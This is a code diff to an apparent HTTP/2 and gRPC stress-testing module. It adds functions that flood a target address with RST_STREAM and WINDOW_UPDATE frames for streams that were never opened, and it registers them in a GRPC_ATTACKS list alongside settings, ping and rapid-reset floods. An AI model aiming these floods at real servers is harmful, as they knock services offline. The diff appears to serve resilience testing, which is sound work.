@@ -35,9 +35,17 @@ def rapid_reset(address: Address, deadline: float) -> None:
     _repeat(address, deadline, START, _reset_calls())
 
 
-def reset_answers(address: Address, deadline: float) -> None:
-    """Frames to streams that never were, each of which the server may answer by a reset."""
-    stray = b"".join(http2.frame(http2.WINDOW_UPDATE, stream=2 * n + 1, payload=bytes(4)) for n in range(BATCH))
+def stray_resets(address: Address, deadline: float) -> None:
+    """Resets of streams that never were."""
+    reset = http2.CANCEL.to_bytes(4, "big")
+    stray = b"".join(http2.frame(http2.RST_STREAM, stream=2 * n + 1, payload=reset) for n in range(BATCH))
+    _repeat(address, deadline, START, itertools.repeat(stray))
+
+
+def stray_window_updates(address: Address, deadline: float) -> None:
+    """Windows for streams that never were."""
+    more = (1).to_bytes(4, "big")
+    stray = b"".join(http2.frame(http2.WINDOW_UPDATE, stream=2 * n + 1, payload=more) for n in range(BATCH))
     _repeat(address, deadline, START, itertools.repeat(stray))
 
 
@@ -119,7 +127,8 @@ GRPC_ATTACKS = (
     settings_flood,
     ping_flood,
     rapid_reset,
-    reset_answers,
+    stray_resets,
+    stray_window_updates,
     huge_header,
     empty_continuations,
     header_bomb,
